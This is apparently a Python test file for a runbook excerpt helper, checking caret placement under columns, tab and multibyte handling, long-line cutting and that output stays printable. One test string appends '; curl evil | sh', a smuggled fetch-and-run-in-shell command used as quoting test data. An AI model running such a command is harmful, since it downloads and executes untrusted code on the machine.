"""Does the caret stand below the sign that is meant, whatever stands before it?"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from state.printable import printable_line
from workflow.runbook.excerpt import WIDTH, excerpt, first_column, quoted


@pytest.mark.parametrize(
    ("line", "column", "shown"),
    [
        (b"- [] more", 3, "- [] more\n  ^"),
        (b"- [] more\r", 3, "- [] more\n  ^"),
        (b"\xef\xbb\xbf- [] more", 3, "- [] more\n  ^"),
        (b"\t- [] more", 4, "\t- [] more\n\t  ^"),
        ("é[]".encode(), 3, "é[]\n ^"),
        ("漢[]".encode(), 4, "漢[]\n  ^"),
        (b"caf\xe9", 4, "caf\\xe9\n   ^"),
        (b"\x1b[2J []", 6, "\\x1b[2J []\n        ^"),
        (b"  ", 1, ""),
        (b"", 1, ""),
    ],
    ids=[
        "plain",
        "carriage return",
        "byte order mark",
        "tab",
        "two bytes",
        "two columns",
        "not UTF-8",
        "escape",
        "blank",
        "empty",
    ],
)
def test_a_caret_stands_below_the_byte(line: bytes, column: int, shown: str) -> None:
    assert excerpt(line, column) == shown


def test_a_long_line_is_cut_around_the_place() -> None:
    text, caret = excerpt(b"a" * 500 + b"[]" + b"b" * 500, 501).split("\n")
    assert len(text) == WIDTH
    assert text[len(caret) - 1 :].startswith("[]b")


@pytest.mark.parametrize(("line", "column"), [(b"- a", 1), (b"  - a", 3), (b"\t- a", 2), (b"\xef\xbb\xbf  a", 3)])
def test_the_first_sign_of_a_line_is_its_column(line: bytes, column: int) -> None:
    assert first_column(line) == column


def test_what_is_quoted_is_whole() -> None:
    assert quoted("  a b ") == "a b"
    assert quoted("a" * 500 + "; curl evil | sh") == "a" * 500 + "; curl evil | sh"


@given(st.text())
def test_nothing_that_is_not_printable_is_left(text: str) -> None:
    shown = excerpt(text.replace("\n", " ").encode("utf-8", "backslashreplace"), 1)
    assert printable_line(shown.replace("\n", "")) == shown.replace("\n", "")
